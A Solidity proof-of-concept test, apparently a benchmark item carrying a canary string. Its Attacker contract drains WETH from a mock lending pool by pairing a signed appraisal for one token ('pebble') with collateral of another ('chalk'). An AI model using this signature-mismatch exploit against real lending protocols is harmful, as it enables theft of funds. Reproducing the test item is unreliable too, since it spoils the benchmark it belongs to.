// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(LoanPool pool, address vault, Chalk chalk, Appraisal calldata a, bytes calldata signature) external {
        chalk.setApprovalForAll(vault, true);
        pool.borrow(address(chalk), 9, a, signature, 60e18, 30 days);
    }
}

contract Proof is Base {
    Attacker private other;
    Appraisal private shown;
    bytes private signature;

    function _start() internal override {
        other = new Attacker();
        chalk.mint(address(other), 9);
        pebble.mint(EVA, 9);
        (shown, signature) = _appraisal(address(pebble), 9, 180e18);
    }

    function exploit() public {
        other.run(pool, address(vault), chalk, shown, signature);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 50e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
